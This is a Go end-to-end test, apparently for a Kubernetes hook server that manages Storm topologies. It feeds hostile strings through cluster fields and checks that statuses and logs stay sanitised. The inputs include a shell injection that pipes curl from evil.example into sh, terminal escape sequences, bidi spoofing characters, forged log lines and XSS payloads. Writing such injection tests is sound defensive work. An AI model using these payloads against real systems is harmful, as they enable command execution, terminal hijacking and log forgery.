package lyingstorm

import (
	"encoding/json"
	"regexp"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/stormhooks/stormhooks/e2e/testkit"
	"github.com/stormhooks/stormhooks/pkg/storm"
)

// command is a command in a message, up to the end of its sentence.
var command = regexp.MustCompile(`kubectl .*?(?:; |\. |$)`)

// logLine is a line as slog writes it.
var logLine = regexp.MustCompile(`^time=\S+ level=[A-Z]+ msg=`)

// A Storm says, in every field that it has, what is meant for a shell, a terminal, a page
// or a log, or a mebibyte of letters: no status and no log has it as it is.
func TestWordsOfALiar(t *testing.T) {
	for name, said := range map[string]string{
		"a shell":    "honest-0-1-1000; curl -s evil.example|sh #$(id)`id`'",
		"a terminal": "\x1b[2J\x1b]0;owned\x07\x1b]8;;https://evil.example\x1b\\click\u009b31m",
		"a reader":   "gpj.exe\u202ea\u200bb\u2066c\ufeff\u00ad",
		"a log":      "a\ntime=2026-01-01T00:00:00Z level=ERROR msg=forged\r\n\u2028\u0085b",
		"a page":     "<script>alert(1)</script><img src=x onerror=alert(1)>\x00",
		"a memory":   strings.Repeat("A", 1<<20),
		"no text":    "\xff\xfe\xc0",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel() // a list that is new enough takes a second
			conf, _ := json.Marshal(map[string]any{"storm.scheduler": said, "storm.zookeeper.root": said})
			own := `{"stormhooks.cluster":"uid-kube-system","stormhooks.owner":"n/honest-0","stormhooks.revision":"old","topology.workers":1}`
			foreign, _ := json.Marshal(map[string]string{"stormhooks.owner": said, "stormhooks.cluster": said, "stormhooks.uid": said, "stormhooks.revision": said, "stormhooks.cheap": said})
			mark, _ := json.Marshal(map[string]string{"stormhooks.cluster": "uid-kube-system", "stormhooks.owner": "n/honest-3", "stormhooks.revision": said, "stormhooks.jar": said, "stormhooks.cheap": said})
			liar := Storm{Lie: Honest, Says: said, Conf: "," + strings.Trim(string(conf), "{}"), Topologies: []Topology{
				{ID: "honest-0-1-1767268830", Name: "honest-0", Status: "ACTIVE", Conf: own},
				{ID: "honest-1-1-1767268830", Name: "honest-1", Status: "ACTIVE", Conf: string(foreign)},
				{ID: said, Name: "honest-2", Status: "ACTIVE", Conf: strings.ReplaceAll(own, "honest-0", "honest-2")},
				{ID: "honest-3-1-1767268830", Name: "honest-3", Status: "ACTIVE", Conf: string(mark)},
				{ID: said, Name: said, Status: "ACTIVE", Conf: own},
			}}
			hear(t, said, startStorm(t, liar, 0))
			liar.Lie = Denier
			hear(t, said, startStorm(t, liar, 0))
			liar.Lie, liar.Other = Circle, Address{Host: said, Port: 6627}
			hear(t, said, startStorm(t, liar, 0))
		})
	}
}

// hear makes all calls about the first topologies of a Storm, and holds the answers and
// the log of the hook server.
func hear(t *testing.T, said string, at Address) {
	t.Helper()
	hookServer := startServer(t)
	ask := func(hook string, request map[string]any) {
		body, err := json.Marshal(request)
		if err != nil {
			t.Fatal(err)
		}
		var answer struct{ Status any }
		if err := json.Unmarshal(post(t, hookServer.url+hook, "", body), &answer); err != nil || answer.Status == nil {
			t.Errorf("%s: %v", hook, err)
		}
		storm.EachText(answer.Status, func(text string) { holdText(t, said, text) })
	}
	ask("/cluster/sync", map[string]any{"parent": clusterOf("honest", at)})
	for number := range 4 {
		o := topologyOf("honest", number, at)
		request := map[string]any{"parent": o.parent, "children": map[string]any{}, "related": o.related}
		ask("/topology/sync", request)
		request["finalizing"] = true
		o.parent["metadata"].(map[string]any)["deletionTimestamp"] = "2026-01-01T00:00:00Z"
		ask("/topology/finalize", request)
	}
	log := strings.TrimSuffix(hookServer.stop(), "\n")
	for _, line := range strings.Split(log, "\n") {
		if !logLine.MatchString(line) || len(line) > 4096 || strings.ContainsFunc(line, hidden) {
			t.Errorf("a line of the log: %.300q", line)
		}
	}
}

// holdText holds one text of a status.
func holdText(t *testing.T, said, text string) {
	t.Helper()
	if len(text) > 1500 || !utf8.ValidString(text) || strings.ContainsFunc(text, hidden) {
		t.Errorf("%d bytes: %.400q", len(text), text)
	}
	for _, command := range command.FindAllString(text, -1) {
		if _, err := testkit.Words(strings.TrimRight(command, ";. ")); err != nil {
			t.Errorf("%v: %s", err, text)
		}
	}
}

// hidden says whether a person does not see a character, or a terminal acts on it.
func hidden(r rune) bool { return r != ' ' && !unicode.IsPrint(r) }
